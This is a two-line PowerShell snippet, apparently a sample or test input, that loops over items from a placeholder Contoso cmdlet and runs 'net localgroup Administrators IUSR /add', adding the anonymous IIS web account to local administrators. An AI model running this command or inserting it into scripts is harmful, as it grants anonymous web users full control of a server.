$x = Get-ContosoThing
$x.ForAll({ param($i) net localgroup Administrators IUSR /add })
